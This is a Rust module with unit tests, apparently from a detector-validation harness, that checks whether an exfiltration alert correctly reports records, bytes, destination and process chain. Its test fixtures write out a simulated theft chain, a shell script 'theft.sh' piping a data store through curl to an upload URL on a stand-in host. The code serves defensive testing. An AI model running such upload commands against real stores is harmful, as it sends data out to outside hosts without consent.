//! Compares what an alert says with what was really moved.
//!
//! **Invariant:** figures are compared for equality; "about right" is a difference. Only of bytes sent the head of the first
//! request may be missing, which curl sends before it reads the first record.

use super::alerts::Alert;
use super::theft::Moved;

/// Longest head of the first request.
const HEAD_MAX: u64 = 1024;

/// What differs, one sentence each; empty when the alert is right.
pub(crate) fn differences(alert: &Alert, moved: &Moved) -> Vec<String> {
    let mut found = Vec::new();
    let mut compare = |what: &str, said: &str, is: &str| {
        if said != is {
            found.push(format!("{what}: the alert says {said}, it was {is}"));
        }
    };
    compare("store", &alert.store, &moved.store);
    compare(
        "distinct records",
        &alert.records.to_string(),
        &moved.records.to_string(),
    );
    compare(
        "bytes read",
        &alert.bytes_read.to_string(),
        &moved.bytes_read.to_string(),
    );
    compare("bytes mapped", &alert.bytes_mapped.to_string(), "0");
    if !(moved.bytes_sent.saturating_sub(HEAD_MAX)..=moved.bytes_sent).contains(&alert.bytes_sent) {
        compare(
            "bytes sent",
            &alert.bytes_sent.to_string(),
            &moved.bytes_sent.to_string(),
        );
    }
    compare(
        "destination",
        &alert.destination.to_string(),
        &moved.destination.to_string(),
    );
    found.extend(chain(alert, moved));
    found
}

/// The process that sent must be curl with the URL, and above it the shell with the script.
fn chain(alert: &Alert, moved: &Moved) -> Vec<String> {
    let script = moved.script.display().to_string();
    let expected = [("curl", moved.url.as_str()), ("sh", script.as_str())];
    let mut found = Vec::new();
    let mut rest = alert.chain.as_slice();
    for (program, argument) in expected {
        let is = |arguments: &&Vec<String>| {
            let name = arguments.first().and_then(|first| first.rsplit('/').next());
            name == Some(program) && arguments.iter().any(|one| one == argument)
        };
        match rest.iter().position(|arguments| is(&arguments)) {
            Some(at) => rest = &rest[at + 1..],
            None => found.push(format!(
                "chain: no {program} with the argument {argument} in {:?}",
                alert.chain
            )),
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn moved() -> Moved {
        Moved {
            store: "demo".to_owned(),
            records: 200,
            bytes_read: 1000,
            bytes_sent: 1200,
            destination: "203.0.113.2:4000".parse().unwrap(),
            script: "/run/theft.sh".into(),
            url: "http://203.0.113.2:4000/upload".to_owned(),
        }
    }

    fn alert() -> Alert {
        let words = |text: &str| text.split(' ').map(str::to_owned).collect::<Vec<_>>();
        Alert {
            id: "1".to_owned(),
            revision: 1,
            settled: true,
            store: "demo".to_owned(),
            records: 200,
            bytes_read: 1000,
            bytes_mapped: 0,
            bytes_sent: 1200,
            destination: "203.0.113.2:4000".parse().unwrap(),
            chain: vec![
                words("curl --config - http://203.0.113.2:4000/upload"),
                words("sh /run/theft.sh /store http://203.0.113.2:4000/upload"),
                words("bash"),
            ],
        }
    }

    #[test]
    fn a_true_alert_has_no_difference() {
        assert_eq!(differences(&alert(), &moved()), Vec::<String>::new());
    }

    #[test]
    fn each_wrong_figure_is_named() {
        let check = |change: fn(&mut Alert), named: &str| {
            let mut alert = alert();
            change(&mut alert);
            let found = differences(&alert, &moved());
            assert!(
                found.len() == 1 && found[0].starts_with(named),
                "{named}: {found:?}"
            );
        };
        check(|alert| alert.store = "other".to_owned(), "store");
        check(|alert| alert.records -= 1, "distinct records");
        check(|alert| alert.bytes_read += 1, "bytes read");
        check(|alert| alert.bytes_mapped += 1, "bytes mapped");
        check(|alert| alert.bytes_sent += 1, "bytes sent");
        check(
            |alert| alert.destination = "203.0.113.2:4001".parse().unwrap(),
            "destination",
        );
        check(|alert| drop(alert.chain.remove(0)), "chain");
        check(|alert| drop(alert.chain.remove(1)), "chain");
        check(|alert| drop(alert.chain[1].remove(1)), "chain");
    }
}
